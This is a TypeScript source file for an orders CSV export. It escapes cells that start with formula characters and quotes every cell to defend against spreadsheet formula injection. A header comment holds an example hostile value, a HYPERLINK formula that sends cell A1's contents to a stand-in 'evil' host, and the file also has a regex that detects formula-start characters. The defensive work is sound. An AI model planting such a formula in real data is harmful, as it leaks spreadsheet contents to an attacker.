/**
 * CSV for spreadsheets (the `orders --format csv` export). Values from CloudLink are hostile: a
 * PO typed as `=HYPERLINK("https://evil/?"&A1,"click")` must stay text when the file is opened in
 * Excel, LibreOffice or Google Sheets. Written with csv-stringify (RFC 4180 quoting by a
 * well-kept library, the writer of the csv-parse family we already read CSV with).
 */
import { stringify } from 'csv-stringify/sync';

/**
 * Characters that make a spreadsheet read a cell as a formula when they come first (OWASP's
 * CSV-injection list `= + - @ TAB CR`, plus LF and NUL (ASVS), and the full-width `＝ ＋ － ＠`
 * some spreadsheets also accept).
 */
const FORMULA_START = /^[=+\-@\t\r\n\0\uff1d\uff0b\uff0d\uff20]/;

/**
 * One cell neutralised for spreadsheets: a leading `'` when it starts with a formula character
 * (the spreadsheet shows the text and hides the apostrophe). Other cells are unchanged.
 */
export function neutralizeFormula(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/**
 * Rows as CSV: CRLF line ends, every cell double-quoted (so a separator `,` or `;`, a quote or a
 * line break inside a value cannot start another cell or row, whatever delimiter the
 * spreadsheet guesses) and every cell neutralised with {@link neutralizeFormula}. Guarantee:
 * parsed back with csv-parse, each cell is the value, or the value with a leading `'` when it
 * started with a formula character; no cell starts with one. (A lone UTF-16 surrogate, which no
 * UTF-8 file can hold, reads back as U+FFFD.)
 */
export function renderCsv(header: readonly string[], rows: readonly (readonly string[])[]): string {
  return stringify([header, ...rows].map((r) => r.map(neutralizeFormula)), { quoted: true, quoted_empty: true, record_delimiter: 'windows' });
}
